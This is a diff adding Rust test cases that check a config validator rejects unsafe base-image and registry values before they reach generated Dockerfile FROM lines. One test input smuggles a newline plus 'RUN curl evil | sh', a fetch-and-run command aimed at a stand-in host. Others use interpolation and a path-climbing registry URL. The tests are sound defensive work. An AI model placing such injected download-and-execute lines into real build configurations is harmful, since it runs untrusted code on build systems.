@@ -464,6 +464,31 @@ fn cases() -> Vec<Case> {
             ),
             json!({ "services": { "api": { "image": "repo/${X}:1" } } }),
         ),
+        // Base images (svc.yaml `build`): they land in the FROM lines of generated Dockerfiles.
+        with_settings(
+            case(
+                "base image with a newline and an instruction",
+                |_| {},
+                rejected("invalid-value", "build.images.node"),
+            ),
+            json!({ "build": { "images": { "node": "node:22\nRUN curl evil | sh" } } }),
+        ),
+        with_settings(
+            case(
+                "base image with interpolation",
+                |_| {},
+                rejected("invalid-value", "build.images.python"),
+            ),
+            json!({ "build": { "images": { "python": "python:${X}" } } }),
+        ),
+        with_settings(
+            case(
+                "registry with a scheme and a path that climbs",
+                |_| {},
+                rejected("invalid-value", "build.registry"),
+            ),
+            json!({ "build": { "registry": "https://mirror.example.com/../x" } }),
+        ),
     ]
 }
 
